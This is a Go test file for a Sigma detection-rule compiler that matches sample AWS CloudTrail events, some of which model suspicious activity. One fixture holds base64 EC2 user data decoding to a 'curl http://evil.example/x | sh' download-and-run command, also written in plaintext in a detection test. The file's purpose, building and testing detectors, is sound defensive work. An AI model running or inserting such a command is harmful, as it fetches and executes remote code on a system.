package sigma_test

import (
	"context"
	"fmt"
	"sort"
	"strings"
	"testing"
	"time"

	"github.com/trailwatch/trailwatch/internal/rulefmt"
	"github.com/trailwatch/trailwatch/internal/ruletest"
	"github.com/trailwatch/trailwatch/internal/sigma"
	"github.com/trailwatch/trailwatch/internal/store"
)

// events are the records the semantics cases run against, by eventID.
var events = map[string]string{
	"login-root": `{"eventName":"ConsoleLogin","eventSource":"signin.amazonaws.com","userIdentity":{"type":"Root","arn":"arn:aws:iam::111122223333:root"},"sourceIPAddress":"203.0.113.7","responseElements":{"ConsoleLogin":"Success"},"additionalEventData":{"MFAUsed":"No","LoginTo":"https://console.aws.amazon.com"}}`,
	"login-fail": `{"eventName":"ConsoleLogin","eventSource":"signin.amazonaws.com","userIdentity":{"type":"IAMUser","userName":"alice"},"sourceIPAddress":"10.1.2.3","errorMessage":"Failed authentication","responseElements":{"ConsoleLogin":"Failure"},"additionalEventData":{"MFAUsed":"Yes"}}`,
	"sg-world":   `{"eventName":"AuthorizeSecurityGroupIngress","eventSource":"ec2.amazonaws.com","userIdentity":{"type":"AssumedRole","arn":"arn:aws:sts::111122223333:assumed-role/AWSReservedSSO_Admin_0123/bob@example.com","sessionContext":{"sessionIssuer":{"type":"Role","userName":"AWSReservedSSO_Admin_0123"},"sourceIdentity":"bob-src"}},"sourceIPAddress":"198.51.100.9","requestParameters":{"groupId":"sg-1","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":22,"toPort":22,"ipRanges":{"items":[{"cidrIp":"10.0.0.0/8"},{"cidrIp":"0.0.0.0/0"}]}}]}}}`,
	"sg-private": `{"eventName":"AuthorizeSecurityGroupIngress","eventSource":"ec2.amazonaws.com","userIdentity":{"type":"IAMUser","userName":"ops","arn":"arn:aws:iam::111122223333:user/ops"},"sourceIPAddress":"ec2.amazonaws.com","requestParameters":{"groupId":"sg-2","ipPermissions":{"items":[{"ipProtocol":"tcp","fromPort":443,"toPort":443,"ipRanges":{"items":[{"cidrIp":"10.0.0.0/8"}]}}]}}}`,
	"key-other":  `{"eventName":"CreateAccessKey","eventSource":"iam.amazonaws.com","userIdentity":{"type":"IAMUser","userName":"mallory","arn":"arn:aws:iam::111122223333:user/mallory"},"requestParameters":{"userName":"victim"},"responseElements":{"accessKey":{"userName":"victim","status":"Active"}}}`,
	"key-self":   `{"eventName":"CreateAccessKey","eventSource":"iam.amazonaws.com","userIdentity":{"type":"IAMUser","userName":"Carol","arn":"arn:aws:iam::111122223333:user/Carol"},"requestParameters":{"userName":"carol"},"responseElements":{"accessKey":{"userName":"carol"}}}`,
	"wild":       `{"eventName":"PutObject","eventSource":"s3.amazonaws.com","userAgent":"a*b?c%d_e\\f","userIdentity":{"type":"IAMUser"},"requestParameters":{"bucketName":"Log-Bucket","size":"2048","empty":""},"resources":[{"ARN":"arn:aws:s3:::log-bucket/x","type":"AWS::S3::Object"}]}`,
	"err":        `{"eventName":"DeleteTrail","eventSource":"cloudtrail.amazonaws.com","errorCode":"AccessDenied","userIdentity":{"type":"IAMUser","userName":"eve"},"sourceIPAddress":"2001:db8::1","eventTime":"2026-01-17T23:30:00Z"}`,
}

func openStore(t *testing.T, events map[string]string) *store.Store {
	t.Helper()
	var recs [][]byte
	var ids []string
	for id := range events {
		ids = append(ids, id)
	}
	sort.Strings(ids)
	for i, id := range ids {
		rec, err := ruletest.Fill([]byte(events[id]), id, ruletest.BaseTime.Add(timeSecond(i)))
		if err != nil {
			t.Fatal(err)
		}
		recs = append(recs, rec)
	}
	st, err := ruletest.Ingest(context.Background(), t.TempDir(), recs)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	return st
}

// match compiles a detection (YAML) and returns the ids of the events it matches.
func match(t *testing.T, st *store.Store, detection string, params sigma.Params) ([]string, error) {
	t.Helper()
	doc := "title: t\nlogsource: {product: aws, service: cloudtrail}\ndetection:\n" + indent(detection)
	rules, ps := rulefmt.Parse("case.yml", []byte(doc))
	if len(ps) > 0 {
		return nil, ps
	}
	c := &sigma.Compiler{Dialect: sigma.DuckDB{}, Params: sigma.DefaultParams().With(params)}
	where, ps := c.Detection(rules[0])
	if len(ps) > 0 {
		return nil, ps
	}
	rows, err := st.DB.QueryContext(context.Background(), "SELECT eventid FROM cloudtrail_logs WHERE "+where+" ORDER BY eventid")
	if err != nil {
		return nil, fmt.Errorf("%v\nSQL: %s", err, where)
	}
	defer rows.Close()
	var out []string
	for rows.Next() {
		var id string
		if err := rows.Scan(&id); err != nil {
			return nil, err
		}
		out = append(out, id)
	}
	return out, rows.Err()
}

func indent(s string) string {
	lines := strings.Split(strings.TrimRight(s, "\n"), "\n")
	for i, l := range lines {
		lines[i] = "  " + l
	}
	return strings.Join(lines, "\n") + "\n"
}

func TestSemantics(t *testing.T) {
	st := openStore(t, events)
	cases := []struct {
		name, detection string
		params          sigma.Params
		want            string // comma-separated ids, sorted
	}{
		{"exact is case-insensitive", "s: {eventName: consolelogin}\ncondition: s", nil, "login-fail,login-root"},
		{"cased is exact", "s: {eventName|cased: consolelogin}\ncondition: s", nil, ""},
		{"map is AND", "s: {eventName: ConsoleLogin, userIdentity.type: Root}\ncondition: s", nil, "login-root"},
		{"list is OR", "s: {eventName: [DeleteTrail, CreateAccessKey]}\ncondition: s", nil, "err,key-other,key-self"},
		{"list of maps is OR", "s:\n  - {eventName: DeleteTrail}\n  - {userIdentity.userName: alice}\ncondition: s", nil, "err,login-fail"},
		{"all is AND", "s: {userAgent|contains|all: ['a*', 'c%']}\ncondition: s", nil, "wild"},
		{"all needs every value", "s: {userAgent|contains|all: ['a*', 'zz']}\ncondition: s", nil, ""},
		{"escaped wildcard is literal", `s: {userAgent: 'a\*b\?c%d_e\f'}` + "\ncondition: s", nil, "wild"},
		{"wildcards", "s: {userAgent: 'A?b*F'}\ncondition: s", nil, "wild"},
		{"percent and underscore are literal", "s: {userAgent|contains: '%d_'}\ncondition: s", nil, "wild"},
		{"startswith", "s: {eventName|startswith: create}\ncondition: s", nil, "key-other,key-self"},
		{"endswith", "s: {eventName|endswith: trail}\ncondition: s", nil, "err"},
		{"nested JSON through arrays", "s: {requestParameters.ipPermissions.items.ipRanges.items.cidrIp: 0.0.0.0/0}\ncondition: s", nil, "sg-world"},
		{"JSON number as text", "s: {requestParameters.ipPermissions.items.fromPort: 22}\ncondition: s", nil, "sg-world"},
		{"JSON keys are case-sensitive", "s: {requestParameters.BucketName: log-bucket}\ncondition: s", nil, ""},
		{"JSON key exact", "s: {requestParameters.bucketName: log-bucket}\ncondition: s", nil, "wild"},
		{"several patterns", "s: {userAgent|contains: ['zz', 'B?C%']}\ncondition: s", nil, "wild"},
		{"several patterns anchored", "s: {eventName: ['*trail', 'Put*', 'Get?allerIdentity']}\ncondition: s", nil, "err,wild"},
		{"several exact values", "s: {eventName: [deletetrail, PutObject]}\ncondition: s", nil, "err,wild"},
		{"whole document contains", "s: {requestParameters|contains: '0.0.0.0/0'}\ncondition: s", nil, "sg-world"},
		{"gt on text number", "s: {requestParameters.size|gte: 2048}\ncondition: s", nil, "wild"},
		{"lt", "s: {requestParameters.size|lt: 2048}\ncondition: s", nil, ""},
		{"null is missing", "s: {eventSource: cloudtrail.amazonaws.com, errorCode: null}\ncondition: s", nil, ""},
		{"null on JSON path", "s: {eventName: CreateAccessKey, responseElements.accessKey.status: null}\ncondition: s", nil, "key-self"},
		{"empty string", "s: {requestParameters.empty: ''}\ncondition: s", nil, "wild"},
		{"exists", "s: {requestParameters.empty|exists: true}\ncondition: s", nil, "wild"},
		{"exists false", "s: {eventSource: s3.amazonaws.com, requestParameters.empty|exists: false}\ncondition: s", nil, ""},
		{"exists on struct field", "s: {userIdentity.arn|exists: false}\ncondition: s", nil, "login-fail,wild,err"},
		{"re is case-sensitive search", "s: {userIdentity.arn|re: 'assumed-role/AWSReserved'}\ncondition: s", nil, "sg-world"},
		{"re flag i", "s: {userIdentity.arn|re|i: 'ASSUMED-ROLE/awsreserved'}\ncondition: s", nil, "sg-world"},
		{"cidr", "s: {sourceIPAddress|cidr: 10.0.0.0/8}\ncondition: s", nil, "login-fail"},
		{"cidr v6", "s: {sourceIPAddress|cidr: '2001:db8::/32'}\ncondition: s", nil, "err"},
		{"not cidr keeps host names", "s: {eventName: AuthorizeSecurityGroupIngress}\nf: {sourceIPAddress|cidr: 10.0.0.0/8}\ncondition: s and not f", nil, "sg-private,sg-world"},
		{"expand list param", "s: {sourceIPAddress|cidr|expand: '%internal_cidrs%'}\ncondition: s", nil, "login-fail"},
		{"expand empty param matches nothing", "s: {requestParameters.bucketName|expand: '%log_buckets%'}\ncondition: s", nil, ""},
		{"expand inside text", "s: {resources.ARN|expand: 'arn:aws:s3:::%log_buckets%/*'}\ncondition: s", sigma.Params{"log_buckets": {"log-bucket"}}, "wild"},
		{"fieldref", "s: {eventName: CreateAccessKey}\nf: {requestParameters.userName|fieldref: userIdentity.userName}\ncondition: s and not f", nil, "key-other"},
		{"fieldref contains", "s: {userIdentity.arn|fieldref|contains: requestParameters.userName}\ncondition: s", nil, "key-self"},
		{"neq", "s: {eventName: CreateAccessKey, requestParameters.userName|neq: victim}\ncondition: s", nil, "key-self"},
		{"1 of", "selection_a: {eventName: DeleteTrail}\nselection_b: {eventName: PutObject}\ncondition: 1 of selection_*", nil, "err,wild"},
		{"all of them skips _", "a: {eventSource: iam.amazonaws.com}\nb: {requestParameters.userName: victim}\n_c: {eventName: nothing}\ncondition: all of them", nil, "key-other"},
		{"precedence", "a: {eventName: DeleteTrail}\nb: {eventName: PutObject}\nc: {userIdentity.type: Root}\ncondition: a or b and c", nil, "err"},
		{"parentheses", "a: {eventName: DeleteTrail}\nb: {eventName: PutObject}\nc: {userIdentity.type: IAMUser}\ncondition: (a or b) and not c", nil, ""},
		{"keywords", "k: ['Failed authentication']\ncondition: k", nil, "login-fail"},
		{"resources list", "s: {resources.type: 'AWS::S3::Object'}\ncondition: s", nil, "wild"},
		{"extra field", "s: {userIdentity.sessionContext.sourceIdentity: bob-src}\ncondition: s", nil, "sg-world"},
		{"principal resolves SSO session", "s: {trailwatch.principal: bob-src}\ncondition: s", nil, "sg-world"},
		{"off hours", "s: {trailwatch.offHours: 'true'}\ncondition: s", nil, "err"},
		{"off hours in a time zone", "s: {trailwatch.offHours: 'true'}\ncondition: s", sigma.Params{"timezone": {"Asia/Tokyo"}}, "err,key-other,key-self,login-fail,login-root,sg-private,sg-world,wild"},
		{"windash", "s: {userAgent|windash|contains: 'x-y'}\ncondition: s", nil, ""},
		{"base64", "s: {userAgent|base64|contains: 'abc'}\ncondition: s", nil, ""},
		{"bool value", "s: {additionalEventData.MFAUsed: 'No'}\ncondition: s", nil, "login-root"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got, err := match(t, st, c.detection, c.params)
			if err != nil {
				t.Fatal(err)
			}
			want := []string{}
			if c.want != "" {
				want = strings.Split(c.want, ",")
			}
			sort.Strings(want)
			if strings.Join(got, ",") != strings.Join(want, ",") {
				t.Errorf("matched %v, want %v", got, want)
			}
		})
	}
}

func TestCompileErrors(t *testing.T) {
	st := openStore(t, events)
	cases := []struct{ detection, want string }{
		{"s: {eventName|bogus: x}\ncondition: s", "case.yml:4:7: unknown modifier \"bogus\""},
		{"s: {eventName|contains|re: x}\ncondition: s", "modifier re must come first"},
		{"s: {eventName: x}\ncondition: s and t", `condition "s and t": condition names "t"`},
		{"s: {eventName: x}\ncondition: 1 of sel*", "matches no search"},
		{"s: {eventName: x}\ncondition: s | count() > 5", "pipe aggregation"},
		{"s: {sourceIPAddress|cidr: 10.0.0/8x}\ncondition: s", "is not an IP network"},
		{"s: {eventName|re: '(a'}\ncondition: s", "missing closing )"},
		{"s: {eventName|expand: '%nope%'}\ncondition: s", "names no parameter"},
		{"s: {eventName|exists: yes please}\ncondition: s", "exists takes true or false"},
		{"s: {eventName|gt: many}\ncondition: s", "gt needs a number"},
		{"s: {eventTime|hour: 3}\ncondition: s", "date-part modifier hour is not supported"},
	}
	for _, c := range cases {
		_, err := match(t, st, c.detection, nil)
		if err == nil || !strings.Contains(err.Error(), c.want) {
			t.Errorf("%q: error %v, want it to contain %q", c.detection, err, c.want)
		}
	}
}

func timeSecond(i int) time.Duration { return time.Duration(i) * time.Second }

// TestModifiersThatFire proves the encoding and comparison modifiers match what they should, not only that
// they leave other events alone.
func TestModifiersThatFire(t *testing.T) {
	st := openStore(t, map[string]string{
		"cli":   `{"eventName":"RunInstances","eventSource":"ec2.amazonaws.com","userAgent":"tool /quiet run","userIdentity":{"type":"IAMUser"},"requestParameters":{"userData":"IyEvYmluL2Jhc2gKY3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==","count":"3"}}`,
		"plain": `{"eventName":"RunInstances","eventSource":"ec2.amazonaws.com","userAgent":"tool run","userIdentity":{"type":"IAMUser"},"requestParameters":{"count":"12"}}`,
	})
	cases := []struct{ name, detection, want string }{
		{"windash turns - into /", "s: {userAgent|windash|contains: ' -quiet'}\ncondition: s", "cli"},
		{"base64offset finds text inside user data", "s: {requestParameters.userData|base64offset|contains: 'curl http://evil'}\ncondition: s", "cli"},
		{"base64 of the whole value", "s: {requestParameters.userData|base64: \"#!/bin/bash\\ncurl http://evil.example/x | sh\"}\ncondition: s", "cli"},
		{"cased matches the exact case", "s: {eventName|cased: RunInstances}\ncondition: s", "cli,plain"},
		{"lt", "s: {requestParameters.count|lt: 10}\ncondition: s", "cli"},
		{"exists false on a JSON path", "s: {eventSource: ec2.amazonaws.com, requestParameters.userData|exists: false}\ncondition: s", "plain"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got, err := match(t, st, c.detection, nil)
			if err != nil {
				t.Fatal(err)
			}
			if strings.Join(got, ",") != c.want {
				t.Errorf("matched %v, want %s", got, c.want)
			}
		})
	}
}
